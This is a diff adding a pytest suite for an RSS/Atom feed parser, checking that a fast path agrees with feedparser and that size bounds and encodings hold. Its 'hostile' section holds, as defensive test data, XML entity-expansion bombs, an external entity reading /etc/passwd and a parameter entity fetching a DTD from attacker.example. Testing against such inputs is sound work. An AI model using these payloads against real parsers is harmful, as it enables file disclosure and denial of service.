@@ -1,0 +1,707 @@
+"""Reading RSS and Atom: what an item is made of, that both ways agree, and what cannot hurt."""
+
+import warnings
+from dataclasses import replace
+from datetime import UTC, datetime
+from io import BytesIO
+from pathlib import Path
+from typing import Any
+
+import feedparser
+import pytest
+from feedparser.html import _cp1252
+from feedparser.mixin import _FeedParserMixin
+from feedparser.sanitizer import _HTMLSanitizer
+from feedparser.urls import ACCEPTABLE_URI_SCHEMES, _urljoin, make_safe_absolute_uri
+from hypothesis import given
+from hypothesis import strategies as st
+
+from aggregator.errors import ParseError
+from aggregator.model import Item, Link, Parsed, Upstream
+from aggregator.parse.syndication import (
+    Bounds,
+    addresses,
+    found,
+    markup,
+    names,
+    parse,
+    parse_carefully,
+    quick,
+)
+from aggregator.parse.syndication.moments import moment
+from tests.support.feeds import ADDRESS, BOUNDS, atom, feed, feeds, rdf, rss, without_lines
+
+SAMPLES = Path(__file__).parent.parent / "data" / "feeds"
+NAMES = sorted(path.name for path in SAMPLES.glob("*.xml"))
+FOR_FEEDPARSER = {
+    "atom-no-namespace.xml", "atom10-svg.xml", "atom10-types-odd.xml", "broken-ampersand.xml",
+    "broken-controls.xml", "broken-cut.xml", "broken-declared-encoding.xml",
+    "broken-html-entity.xml", "broken-leading-junk.xml", "broken-nesting.xml",
+    "broken-prefix.xml", "entities-own.xml", "rss091-entities.xml", "rss20-dates-odd.xml",
+    "rss20-false-prefix.xml", "rss20-items-outside.xml", "rss20-naked-markup.xml",
+    "rss20-nested-title.xml", "rss20-person-odd.xml",
+}  # fmt: skip
+"""The samples that the quick way leaves alone."""
+
+
+def both(content: str | bytes, **header: str | None) -> Parsed:
+    """What both ways say, which must be the same."""
+    document = feed(content, **header)
+    fast, careful = parse(document, BOUNDS), parse_carefully(document, BOUNDS)
+    assert fast is not None, "the quick way should be sure of this"
+    assert without_lines(fast) == without_lines(careful)
+    return fast
+
+
+def only(content: str | bytes, **header: str | None) -> tuple[Item, Upstream]:
+    """The one item of a feed that both ways read."""
+    (item,) = both(content, **header).items
+    assert item.upstream is not None
+    return item, item.upstream
+
+
+def carefully(content: str | bytes, **header: str | None) -> Parsed:
+    """What feedparser says of a feed that the quick way leaves to it."""
+    document = feed(content, **header)
+    assert parse(document, BOUNDS) is None
+    return parse_carefully(document, BOUNDS)
+
+
+def sample(name: str) -> bytes:
+    return (SAMPLES / name).read_bytes()
+
+
+# --- both ways agree -----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("address", [ADDRESS, None])
+@pytest.mark.parametrize("name", NAMES)
+def test_both_ways_read_a_sample_alike(name: str, address: str | None) -> None:
+    """Wherever the quick way answers it says what feedparser says; and it answers where it can."""
+    document = feed(sample(name), address=address)
+    fast = parse(document, BOUNDS)
+    careful = parse_carefully(document, BOUNDS)
+    if address is not None:
+        assert (fast is None) == (name in FOR_FEEDPARSER)
+    if fast is not None:
+        assert without_lines(fast) == without_lines(careful)
+
+
+@given(content=feeds(), address=st.sampled_from((ADDRESS, None)))
+def test_both_ways_read_any_feed_alike(content: str, address: str | None) -> None:
+    """Elements in any order and number mean the same to both."""
+    document = feed(content, address=address)
+    fast = parse(document, BOUNDS)
+    if fast is not None:
+        assert without_lines(fast) == without_lines(parse_carefully(document, BOUNDS))
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_the_careful_way_says_what_feedparser_says(name: str) -> None:
+    """Titles, ids, links, dates and texts are those of feedparser on the bytes as they came."""
+    body = sample(name)
+    headers = {"content-type": "application/xml", "content-location": ADDRESS}
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        wanted = feedparser.parse(
+            BytesIO(body),
+            response_headers=headers,
+            sanitize_html=False,
+            resolve_relative_uris=False,
+        )
+    items = parse_carefully(feed(body), BOUNDS).items
+    assert [_said(item) for item in items] == [_wanted(entry) for entry in wanted["entries"]]
+
+
+def _said(item: Item) -> tuple[Any, ...]:
+    upstream = item.upstream
+    assert upstream is not None
+    dates = [at.timetuple()[:6] if at else None for at in (upstream.published, upstream.updated)]
+    return item.title, upstream.id, item.link, *dates, _plain(item.body)
+
+
+def _wanted(entry: Any) -> tuple[Any, ...]:
+    own = dict(entry.items())
+    links = [link.get("href") for link in own.get("links", ()) if link["rel"] == "alternate"]
+    pages = [link for link in (own.get("link"), *links) if link and link.startswith("http")]
+    dates = [
+        tuple(own[key][:6]) if own.get(key) else None
+        for key in ("published_parsed", "updated_parsed")
+    ]
+    texts = [content["value"] for content in own.get("content", ()) if content["value"]]
+    return (
+        own.get("title", ""),
+        own.get("id") or None,
+        pages[0] if pages else None,  # a page, or else a file
+        *dates,
+        _plain(texts[0] if texts else own.get("summary", "")),
+    )
+
+
+def _plain(html: str) -> str:
+    """``html`` without tags, in which addresses were made absolute, and references undone."""
+    text = "".join(piece.rpartition(">")[2] for piece in html.split("<"))
+    return " ".join(text.replace("&quot;", '"').replace("&amp;", "&").split())
+
+
+def test_every_sample_is_in_the_table() -> None:
+    """The table in the folder names each sample and says what it shows."""
+    table = (SAMPLES / "README.md").read_text(encoding="utf-8")
+    listed = [line.split("`")[1] for line in table.splitlines() if line.startswith("| `")]
+    assert listed == NAMES
+
+
+# --- what an item is made of ---------------------------------------------------------------------
+
+
+def test_an_item_of_rss() -> None:
+    """All that an RSS item can say of itself is kept."""
+    content = rss(
+        "<title>A &amp; B</title><link>https://agency.example/1</link>"
+        '<guid isPermaLink="false">one</guid><pubDate>Fri, 05 Jan 2024 10:00:00 +0100</pubDate>'
+        "<dc:creator>Ada</dc:creator><category>X</category><category>X</category>"
+        '<source url="https://o.example/">Other</source><dc:language>fr</dc:language>'
+        '<enclosure url="https://m.example/1.mp3" type="audio/mpeg" length="5"/>'
+        "<description>Short</description><content:encoded>&lt;p&gt;Whole&lt;/p&gt;</content:encoded>"
+    )
+    (item,) = both(content).items
+    assert item == Item(
+        position=0,
+        lines=(4, 4),
+        title="A & B",
+        agency="",
+        body="<p>Whole</p>",
+        date="Fri, 05 Jan 2024 10:00:00 +0100",
+        link="https://agency.example/1",
+        body_markup="html",
+        upstream=Upstream(
+            id="one",
+            links=(
+                Link(href="https://agency.example/1"),
+                Link(href="https://m.example/1.mp3", rel="enclosure", type="audio/mpeg", length=5),
+            ),
+            published=datetime(2024, 1, 5, 9, tzinfo=UTC),
+            authors=("Ada",),
+            categories=("X",),
+            language="fr",
+            publisher="Other",
+        ),
+    )
+
+
+def test_an_entry_of_atom() -> None:
+    """All that an Atom entry can say of itself is kept."""
+    content = atom(
+        '<title type="html">A &amp;amp; B</title><id>urn:x:1</id>'
+        '<link href="/1"/><link rel="enclosure" href="m.ogg" type="audio/ogg" title="Talk"/>'
+        "<published>2024-01-05T10:00:00Z</published><updated>2024-01-06T10:00:00+02:00</updated>"
+        "<author><name>Ada</name><email>a@agency.example</email></author>"
+        '<category term="X" label="The X"/><summary>Short</summary>'
+        '<content type="html" xml:lang="de">&lt;a href="x"&gt;Ganz&lt;/a&gt;</content>'
+        "<source><title>Other</title></source>",
+        attributes='xml:lang="en_GB"',
+    )
+    item, upstream = only(content)
+    assert (item.title, item.title_markup) == ("A &amp; B", "html")
+    assert (item.body, item.body_markup) == (
+        '<a href="https://feeds.example/news/x">Ganz</a>',
+        "html",
+    )
+    assert upstream == Upstream(
+        id="urn:x:1",
+        links=(
+            Link(href="https://feeds.example/1"),
+            Link(
+                href="https://feeds.example/news/m.ogg",
+                rel="enclosure",
+                type="audio/ogg",
+                title="Talk",
+            ),
+        ),
+        published=datetime(2024, 1, 5, 10, tzinfo=UTC),
+        updated=datetime(2024, 1, 6, 8, tzinfo=UTC),
+        authors=("Ada",),
+        categories=("X",),
+        language="de",
+        publisher="Other",
+    )
+
+
+def test_an_item_of_rss_10() -> None:
+    """In RSS 1.0 the id is in ``rdf:about``, and dates and authors are Dublin Core's."""
+    item, upstream = only(
+        rdf("<title>T</title><link>https://agency.example/l</link><dc:date>2024-01-05</dc:date>")
+    )
+    assert (upstream.id, item.link) == ("https://agency.example/0", "https://agency.example/l")
+    assert upstream.updated == datetime(2024, 1, 5, tzinfo=UTC)
+    assert (upstream.published, item.date) == (None, "2024-01-05")
+
+
+@pytest.mark.parametrize(
+    ("title", "text", "kind"),
+    [
+        ("Fish &amp; chips", "Fish & chips", "text"),
+        ("Fish &amp;amp; chips", "Fish &amp; chips", "html"),
+        ("<![CDATA[<b>Now</b>]]>", "<b>Now</b>", "html"),
+        ("5 &lt; 6", "5 < 6", "text"),
+        ("&lt;own&gt;x&lt;/own&gt;", "<own>x</own>", "text"),
+        ("caf\u00c3\u00a9", "café", "text"),
+        ("it\u0092s", "it’s", "text"),
+    ],
+)
+def test_a_title_of_rss_is_text_or_looks_like_html(title: str, text: str, kind: str) -> None:
+    """RSS does not say which, so it goes by end tags and references; two slips are put right."""
+    item, _ = only(rss(f"<title>{title}</title>"))
+    assert (item.title, item.title_markup) == (text, kind)
+
+
+@pytest.mark.parametrize(
+    ("inside", "body", "is_summary"),
+    [
+        ("<description>Short</description>", "Short", True),
+        ("<description>Short</description><content:encoded>Long</content:encoded>", "Long", False),
+        ("<content:encoded>Long</content:encoded><description>Short</description>", "Long", False),
+        ("<content:encoded/><description>Short</description>", "Short", True),
+        ("<description>One</description><description>Two</description>", "Two", False),
+        ("<title>T</title>", "", True),
+    ],
+)
+def test_the_body_is_the_content_else_the_summary(inside: str, body: str, is_summary: bool) -> None:
+    """The first text that is not only a summary is the body; a second summary is content."""
+    item, upstream = only(rss(inside))
+    assert (item.body, upstream.is_summary) == (body, is_summary)
+
+
+@pytest.mark.parametrize(
+    ("inside", "link", "id_"),
+    [
+        ("<guid>https://a.example/g</guid>", "https://a.example/g", "https://a.example/g"),
+        ('<guid isPermaLink="false">g</guid>', None, "g"),
+        ("<guid>https://a.example/g</guid><link>https://a.example/l</link>",
+         "https://a.example/l", "https://a.example/g"),
+        ("<guid>g</guid>", "https://feeds.example/news/g", "https://feeds.example/news/g"),
+        ("<link>l?a=1&amp;b=2</link>", "https://feeds.example/news/l?a=1&b=2", None),
+        ("<link>javascript:alert(1)</link>", None, None),
+        ("<link>https://[x</link>", None, None),
+        ("<link> </link><guid>https://a.example/g</guid>", None, "https://a.example/g"),
+        ("<guid>tag:a.example,2024:1</guid>", None, "tag:a.example,2024:1"),
+    ],
+)  # fmt: skip
+def test_where_an_item_is_found(inside: str, link: str | None, id_: str | None) -> None:
+    """The link is the last page named, or a guid that is one; both are relative to the feed."""
+    item, upstream = only(rss(inside))
+    assert (item.link, upstream.id) == (link, id_)
+
+
+@pytest.mark.parametrize(
+    ("written", "names_"),
+    [
+        ("<author>ada@agency.example.org (Ada Quay)</author>", ("Ada Quay",)),
+        ("<author>Ada Quay &lt;ada@agency.example.org&gt;</author>", ("Ada Quay",)),
+        ("<author>ada@agency.example.org</author>", ("ada@agency.example.org",)),
+        ("<dc:creator>Ada</dc:creator><dc:creator>Ben</dc:creator>", ("Ada", "Ben")),
+        ("<dc:creator>Ada</dc:creator><author>Ada</author>", ("Ada",)),
+        ("<author/>", ()),
+    ],
+)
+def test_authors(written: str, names_: tuple[str, ...]) -> None:
+    """An author is a name; an address only where nothing else is known."""
+    assert only(rss(written))[1].authors == names_
+
+
+def test_xhtml_is_written_out_as_html() -> None:
+    """XHTML loses the ``div`` around it, prefixes, and end tags that HTML has not."""
+    item, _ = only(
+        atom(
+            '<content type="xhtml"><h:div xmlns:h="http://www.w3.org/1999/xhtml">'
+            'a &amp; b<h:br/><h:A HREF="/x">c</h:A></h:div></content>'
+        )
+    )
+    assert item.body == 'a &amp; b<br><a href="https://feeds.example/x">c</a>'
+
+
+def test_relative_addresses_in_html_become_absolute() -> None:
+    """Addresses are joined to the base, and all else stays as it was."""
+    html = (
+        """<a href=/a>1</a><IMG ALT=x src='b c.png'><a href="#t">2</a> href="y" """
+        """<a href="mailto:a@b.example">3</a><a href="javascript:x()">4</a>"""
+    )
+    item, _ = only(rss(f"<description><![CDATA[{html}]]></description>"))
+    assert item.body == (
+        """<a href=https://feeds.example/a>1</a>"""
+        """<IMG ALT=x src='https://feeds.example/news/b c.png'>"""
+        """<a href="https://feeds.example/news/feed.xml#t">2</a> href="y" """
+        """<a href="mailto:a@b.example">3</a><a href="javascript:x()">4</a>"""
+    )
+
+
+def test_a_feed_without_an_address() -> None:
+    """A feed from a file keeps relative addresses in its HTML, and has no links of its items."""
+    item, upstream = only(
+        rss('<link>/1</link><description>&lt;a href="/2"&gt;&lt;/a&gt;</description>'),
+        address=None,
+    )
+    assert (item.link, upstream.links, item.body) == (None, (), '<a href="/2"></a>')
+
+
+def test_what_a_feed_says_of_itself() -> None:
+    """Title, home, language, hub, own address, and how often it changes."""
+    channel = both(
+        rss(
+            channel="<title>&lt;b&gt;A&lt;/b&gt; &amp;amp; co</title><link>/</link>"
+            '<atom:link rel="self" href="https://agency.example/feed"/>'
+            '<atom:link rel="hub" href="https://hub.example/"/>'
+            "<language>en_GB</language><ttl>60</ttl><sy:updatePeriod>daily</sy:updatePeriod>"
+            "<skipHours><hour>0</hour><hour>24</hour><hour>7</hour><hour>x</hour></skipHours>"
+            "<skipDays><day>Sunday</day><day>monday</day></skipDays>"
+        )
+    ).channel
+    assert channel is not None
+    assert (channel.title, channel.home, channel.language) == (
+        "A & co",
+        "https://feeds.example/",
+        "en_GB",
+    )
+    assert (channel.hub, channel.topic) == ("https://hub.example/", "https://agency.example/feed")
+    assert (channel.period, channel.skip_hours, channel.skip_days) == (
+        3600,
+        frozenset({0, 7}),
+        frozenset({0, 6}),
+    )
+
+
+@pytest.mark.parametrize(
+    ("said", "seconds"),
+    [
+        ("<sy:updatePeriod>hourly</sy:updatePeriod>", 3600),
+        ("<sy:updatePeriod> Daily </sy:updatePeriod><sy:updateFrequency>4</sy:updateFrequency>",
+         21600),
+        ("<sy:updatePeriod>often</sy:updatePeriod>", None),
+        ("<ttl>0</ttl><sy:updatePeriod>weekly</sy:updatePeriod>", 604800),
+        ("<ttl>99999999</ttl>", 31536000),
+        (f"<ttl>{'9' * 5000}</ttl>", None),
+        ("<ttl>-5</ttl>", None),
+    ],
+)  # fmt: skip
+def test_how_often_a_feed_changes(said: str, seconds: int | None) -> None:
+    """``ttl`` is in minutes and wins; nonsense is nothing."""
+    channel = both(rss(channel=f"<title>T</title>{said}")).channel
+    assert channel is not None
+    assert channel.period == seconds
+
+
+@pytest.mark.parametrize(
+    ("written", "wanted"),
+    [
+        ("Fri, 05 Jan 2024 10:00:00 GMT", (10, 0, 0)),
+        ("5 Jan 2024 10:00 EST", (15, 0, 0)),
+        ("Fri, 05 Jan 2024 10:00:00 CEST", (10, 0, 0)),
+        ("2024-01-05T10:00:00.9Z", (10, 0, 0)),
+        ("2024-01-05T10:00:07-05:30", (15, 30, 7)),
+        ("2024-01-05T10:00+0100", (9, 0, 0)),
+        ("2024-01-05", (0, 0, 0)),
+    ],
+)
+def test_dates_that_are_read_at_sight(written: str, wanted: tuple[int, int, int]) -> None:
+    """A date is a moment in UTC; zones that feedparser does not know count as UTC."""
+    assert moment(written) == datetime(2024, 1, 5, *wanted, tzinfo=UTC)
+    assert only(rss(f"<pubDate>{written}</pubDate>"))[1].published == moment(written)
+
+
+@given(
+    st.from_regex(
+        r"[A-Z][a-z]{2}, \d{1,2} (Jan|Feb|Dec) \d{4} \d\d:\d\d:\d\d ([+-]\d{4}|[A-Z]{1,4})"
+    )
+    | st.from_regex(r"\d{4}-\d\d-\d\d([T ]\d\d:\d\d(:\d\d(\.\d+)?)?(Z|[+-]\d\d:?\d\d)?)?")
+)
+def test_dates_are_those_of_feedparser(written: str) -> None:
+    """What is read at sight is what feedparser reads."""
+    at = moment(written.strip())
+    if at is not None:
+        wanted = feedparser.datetimes._parse_date(written.strip())
+        assert wanted is not None
+        assert at.timetuple()[:6] == tuple(wanted[:6])
+
+
+@pytest.mark.parametrize("date", ["yesterday", "Tue Mar  5 08:00:00 2024", "2024-02-30T00:00:00Z"])
+def test_a_date_that_is_not_plain(date: str) -> None:
+    """Such a feed is feedparser's to read, and costs the item at most its date."""
+    (item,) = carefully(rss(f"<title>T</title><pubDate>{date}</pubDate>")).items
+    assert (item.title, item.date) == ("T", date)
+
+
+# --- bounds --------------------------------------------------------------------------------------
+
+
+def test_more_items_than_are_read() -> None:
+    """The first ones are kept, and one problem says how many were not."""
+    document = feed(rss(*(f"<title>{number}</title>" for number in range(7))))
+    bounds = Bounds(max_items=3, max_item_size=100)
+    for parsed in (parse(document, bounds), parse_carefully(document, bounds)):
+        assert parsed is not None
+        assert [item.title for item in parsed.items] == ["0", "1", "2"]
+        (problem,) = parsed.problems
+        assert (problem.rejected, problem.lines[0]) == (True, 7)
+        assert "4 of 7 items are more than max_items" in problem.reason
+
+
+def test_a_text_that_is_too_long() -> None:
+    """It is cut, not within a tag, and the problem names its lines; the item stays."""
+    text = "&lt;p&gt;" + "x" * 90 + '&lt;a href="https://agency.example/"&gt;y&lt;/a&gt;'
+    document = feed(rss("<title>Short</title>", f"<description>{text}</description>"))
+    bounds = Bounds(max_items=10, max_item_size=100)
+    for parsed in (parse(document, bounds), parse_carefully(document, bounds)):
+        assert parsed is not None
+        assert parsed.items[1].body == "<p>" + "x" * 90
+        (problem,) = parsed.problems
+        assert (problem.rejected, problem.lines) == (False, (5, 5))
+
+
+def test_fields_that_are_too_long() -> None:
+    """An overlong title is cut; overlong ids, names and addresses are as none."""
+    long = "x" * 10_000
+    item, upstream = only(
+        rss(
+            f"<title>{long}</title><link>https://agency.example/{long}</link>"
+            f'<guid isPermaLink="false">{long}</guid><category>{long}</category>'
+            + "".join(f"<category>{number}</category>" for number in range(1_000))
+        )
+    )
+    assert len(item.title) == found.MAX_TITLE
+    assert (item.link, upstream.id, upstream.links) == (None, None, ())
+    assert len(upstream.categories) == found.MAX_NAMES
+
+
+@pytest.mark.parametrize("lines", [10, 70_000])
+def test_the_lines_of_items(lines: int) -> None:
+    """Items are found by their lines, in long feeds too, and in either way."""
+    padding = "\n" * lines
+    content = rss("<title>1</title>", f"{padding}<title>2</title>\n", "<title>3</title>")
+    document = feed(content)
+    wanted = ((4, 4), (5, 6 + lines), (7 + lines, 7 + lines))
+    for parsed in (parse(document, BOUNDS), parse_carefully(document, BOUNDS)):
+        assert parsed is not None
+        assert [item.lines for item in parsed.items] == list(wanted)
+
+
+# --- encodings -----------------------------------------------------------------------------------
+
+ACCENTED = rss("<title>Café – “ouvert”</title>")
+
+
+@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"])
+def test_encodings_with_a_mark_or_a_pattern(encoding: str) -> None:
+    """The byte order mark, or how ``<?`` is written, tells the encoding."""
+    declared = ACCENTED.replace("utf-8", "utf-16") if "16" in encoding else ACCENTED
+    assert only(declared.encode(encoding))[0].title == "Café – “ouvert”"
+
+
+@pytest.mark.parametrize("encoding", ["windows-1252", "cp1252", "gb18030", "x-unknown"])
+def test_encodings_that_are_declared(encoding: str) -> None:
+    """The declaration counts where Python knows its encoding; else what fits is taken."""
+    codec = encoding if encoding != "x-unknown" else "utf-8"
+    body = ACCENTED.replace("utf-8", encoding).encode(codec)
+    assert only(body)[0].title == "Café – “ouvert”"
+
+
+def test_the_server_knows_better_than_the_declaration() -> None:
+    """A charset in the ``Content-Type`` wins (RFC 3023)."""
+    assert only(ACCENTED.encode("cp1252"), charset="windows-1252")[0].title == "Café – “ouvert”"
+
+
+def test_text_without_a_charset() -> None:
+    """``text/xml`` without a charset would be ASCII, and mostly is not."""
+    assert only(ACCENTED, media_type="text/xml")[0].title == "Café – “ouvert”"
+
+
+def test_a_wrong_encoding_costs_no_feed() -> None:
+    """Bytes that are not in the encoding they claim are read by one that fits."""
+    (item,) = carefully(ACCENTED.encode("cp1252")).items
+    assert item.title == "Café – “ouvert”"
+
+
+# --- hostile -------------------------------------------------------------------------------------
+
+
+def doctype(subset: str, title: str = "&a;") -> str:
+    return (
+        f'<?xml version="1.0"?>\n<!DOCTYPE rss [\n{subset}\n]>\n<rss version="2.0"><channel>'
+        f"<item><title>T {title}</title></item></channel></rss>"
+    )
+
+
+LAUGHS = '<!ENTITY a "ha">\n' + "\n".join(
+    f'<!ENTITY {after} "{f"&{before};" * 10}">'
+    for before, after in zip("abcdefghi", "bcdefghij", strict=True)
+)
+CHAIN = '<!ENTITY e0 "x">' + "".join(
+    f'<!ENTITY e{number} "&e{number - 1};">' for number in range(1, 40_000)
+)
+
+
+@pytest.mark.parametrize(
+    ("subset", "reference"),
+    [
+        (LAUGHS, "&j;"),
+        (CHAIN, "&e39999;"),
+        (f'<!ENTITY a "{"x" * 100_000}">', "&a;" * 1_000),
+        ('<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;"),
+        ('<!ENTITY % p SYSTEM "https://attacker.example/x.dtd"> %p;', "&a;"),
+        ('<!ENTITY a "<b">\n<!ENTITY c "&a;&a;">', "&c;"),
+        ("<!ENTITY a '&#38;b;'><!ENTITY b '&#38;a;'>", "&a;"),
+    ],
+)
+def test_entities_are_not_expanded(subset: str, reference: str) -> None:
+    """Entities made of entities, long ones and those from elsewhere stay as they are written."""
+    (item,) = carefully(doctype(subset, reference)).items
+    assert item.title.startswith("T ")
+    assert len(item.title) < 2_100
+    assert "root:" not in item.title
+
+
+def test_plain_entities_are_known() -> None:
+    """An entity that stands for a few characters is what many old feeds use."""
+    subset = '<!-- x --><!ENTITY a "Office"><!ELEMENT rss ANY>\n<!ENTITY d "&#8212;">'
+    (item,) = carefully(doctype(subset, "&a; &d;")).items
+    assert item.title == "T Office —"
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        doctype(LAUGHS, "&j;").encode("utf-16"),
+        doctype(LAUGHS, "&j;").replace('"1.0"', '"1.0" encoding="utf-7"').encode("utf-7"),
+        doctype(LAUGHS, "&j;").replace("?>\n", "?><!-- <b -->").encode(),
+        ("x" + doctype(LAUGHS, "&j;")).encode(),
+        b"<?xml version='1.0'?><!DOCTYPE rss [<!EN\n<!DOCTYPE x>TITY a 'aa'>"
+        b"<!ENTITY b '&a;&a;'>]><rss><channel><item><title>T &b;</title></item></channel></rss>",
+    ],
+)
+def test_entities_that_hide(body: bytes) -> None:
+    """Neither an encoding nor junk around it gets a document type to the parser."""
+    document = feed(body)
+    assert parse(document, BOUNDS) is None
+    try:
+        items = parse_carefully(document, BOUNDS).items
+    except ParseError:
+        return
+    assert all(len(item.title) < 2_100 and "haha" not in item.title for item in items)
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        rss("<title>T</title>" + "<own:a>" * 2_000 + "</own:a>" * 2_000),
+        rss("<title>T</title><description>" + "<div>" * 2_000 + "</description>"),
+        rss(f"<title>T</title><author>{'a@' * 20_000}</author>"),
+        rss(f"<title>T</title><dc:creator><![CDATA[{'(a@b.' * 20_000}]]></dc:creator>"),
+        rss(f'<title>T</title><own:a b="{"x" * 500_000}"/>'),
+        rss("<title>T</title>\0\x01\x02"),
+        rss("<title>T</title><links>a</links><link>/b</link><authors>c</authors>"),
+        rss("<title>T</title><tags>a,b</tags><content_detail>x</content_detail>"),
+        rss("<title>T</title><title_detail>a</title_detail><updated_parsed>b</updated_parsed>"),
+    ],
+    ids=range(9),
+)
+def test_abuse_costs_at_most_its_field(content: str) -> None:
+    """Nesting, long names, controls and elements called as feedparser's own: the item is read."""
+    (item,) = parse_carefully(feed(content), BOUNDS).items
+    assert item.title in ("T", "")
+    fast = parse(feed(content), BOUNDS)
+    assert fast is None or without_lines(fast) == without_lines(
+        parse_carefully(feed(content), BOUNDS)
+    )
+
+
+def test_a_tag_with_too_many_attributes() -> None:
+    """The whole takes feedparser half a minute, so it is refused."""
+    attributes = " ".join(f'a{number}="{number}"' for number in range(40_000))
+    with pytest.raises(ParseError, match="attributes"):
+        parse_carefully(feed(rss(f"<own:a {attributes}/>").replace("</rss>", "")), BOUNDS)
+
+
+@pytest.mark.parametrize(
+    "content",
+    ["", " ", "Plain text.", "<html><head><title>Page</title></head></html>", "{}", "<a/>", "\0"],
+)
+def test_what_is_no_feed(content: str) -> None:
+    """A document without a feed is an error that names it."""
+    document = feed(content)
+    assert parse(document, BOUNDS) is None
+    with pytest.raises(ParseError, match=r"^agency: feeds\.example/news/feed\.xml: "):
+        parse_carefully(document, BOUNDS)
+
+
+@given(st.binary(max_size=300) | st.text(max_size=100).map(str.encode))
+def test_any_bytes(body: bytes) -> None:
+    """Whatever comes, both ways give items, or say that there are none."""
+    for content in (body, rss("<title>T</title>").encode()[:-20] + body):
+        document = feed(content)
+        parse(document, BOUNDS)
+        try:
+            parse_carefully(document, BOUNDS)
+        except ParseError:
+            continue
+
+
+def test_a_feed_without_items() -> None:
+    """A feed with nothing in it yet is a feed."""
+    parsed = both(rss())
+    assert parsed.items == ()
+    assert parsed.channel is not None
+    assert parsed.channel.title == "Agency"
+
+
+def test_the_bounds_hold_for_feeds_from_files() -> None:
+    """Where a feed comes from changes nothing but its addresses."""
+    document = replace(feed(rss("<title>T</title>")), address=None, media_type=None)
+    parsed = parse(document, BOUNDS)
+    assert parsed is not None
+    assert parsed.items[0].title == "T"
+
+
+# --- the tables are feedparser's -----------------------------------------------------------------
+
+
+def test_every_element_that_feedparser_knows_is_in_a_table() -> None:
+    """A release of feedparser that learns an element must not go unnoticed."""
+    handlers = {
+        name.split("_", 2)[2].lower()
+        for name in dir(_FeedParserMixin)
+        if name.startswith(("_start_", "_end_"))
+    }
+    known = {*quick._READERS, *names.IGNORED, *names.MARKUP, *names.UNSURE}
+    assert handlers - known == set()
+
+
+def test_namespaces_and_their_prefixes() -> None:
+    """They are those of feedparser, in lower case."""
+    wanted = {name.lower(): prefix.lower() for name, prefix in _FeedParserMixin.namespaces.items()}
+    assert wanted == names.NAMESPACES
+
+
+def test_smaller_tables() -> None:
+    """Elements of HTML, schemes and characters are those of feedparser."""
+    assert set(_HTMLSanitizer.acceptable_elements) == markup.ELEMENTS
+    assert set(ACCEPTABLE_URI_SCHEMES) == addresses._SCHEMES
+    assert _cp1252 == found._C1
+
+
+@given(st.text("<>/&;#abi x5", max_size=20))
+def test_what_looks_like_html(text: str) -> None:
+    """The guess is feedparser's."""
+    assert markup.looks_like_html(text) == _FeedParserMixin.looks_like_html(text)
+
+
+_PARTS = st.sampled_from(
+    ("http:", "https:", "HTTP:", "//", "/", "a.example", "b", "?", "#", ";", ":", "..", " ", "tag:",
+     "urn:", "é", "[", "]", "@", "80", "=", "&", "%20", "\n", "mailto:", "javascript:")
+)  # fmt: skip
+
+
+@given(st.lists(_PARTS, max_size=7).map("".join), st.sampled_from(("", ADDRESS)))
+def test_addresses_are_joined_as_feedparser_joins_them(address: str, base: str) -> None:
+    """Joining is feedparser's, shortcuts included."""
+    assert addresses.joined(base, address) == _urljoin(base, address)
+    if base:
+        assert addresses._fit(base, address) == make_safe_absolute_uri(base, address)
